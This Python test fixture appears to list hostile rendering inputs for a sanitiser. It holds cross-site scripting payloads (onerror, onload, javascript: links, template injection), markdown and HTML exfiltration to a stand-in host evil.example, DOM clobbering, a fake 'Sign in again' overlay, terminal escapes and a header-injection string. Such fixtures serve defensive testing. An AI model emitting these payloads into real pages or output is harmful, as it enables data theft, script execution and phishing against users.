"""Text that tries to become more than text: groups B and D of the hazards, by name."""

from __future__ import annotations

HOSTILE = {
    "picture": "![map](https://evil.example/?q=harbour)",
    "reference": "![map][m]\n\n[m]: https://evil.example/m.png",
    "srcset": '<img srcset="https://evil.example/1.png 1x" src="https://evil.example/2.png">',
    "link": "[more](https://evil.example/?text=secret)",
    "style": '<p style="background:url(https://evil.example/bg.png)">tide</p>',
    "autolink": "<https://evil.example/> https://evil.example/auto",
    "scheme": "[a](javascript:alert(1)) [b](data:text/html,<script>alert(1)</script>)",
    "video": '<video poster="https://evil.example/p.png" src="https://evil.example/v.mp4">',
    "form": '<form action="https://evil.example/"><input name="q"><button>Go</button></form>',
    "split": "![map](https://evil.example/\n\nq=split)",
    "onerror": "<img src=x onerror=alert(1)>",
    "onload": "<svg onload=alert(1)><script>alert(2)</script></svg>",
    "entity": '<a href="jav&#x09;ascript:alert(1)">tide table</a>',
    "katex": r"$\href{javascript:alert(1)}{tide}$ $$\htmlData{x=y}{z}$$",
    "mermaid": '```mermaid\ngraph TD; A-->B; click A "javascript:alert(1)"\n```',
    "overlay": '<div style="position:fixed;inset:0;z-index:9999">Sign in again</div>',
    "clobber": '<a id="pane" name="peek"></a><form id="talk"></form><base href="//evil.example/">',
    "template": "${alert(1)} {{constructor.constructor('alert(1)')()}} `+alert(1)+`",
    "title": "<script>alert(1)</script>",
    "closing": '"><img src=x onerror=alert(1)>',
    "terminal": "\x1b]8;;https://evil.example/\x07tide\x1b]8;;\x07 \r\nSet-Cookie: a=b",
    "close": "</script></textarea>\"'><script>alert(1)</script><img src=x onerror=alert(1)>",
}
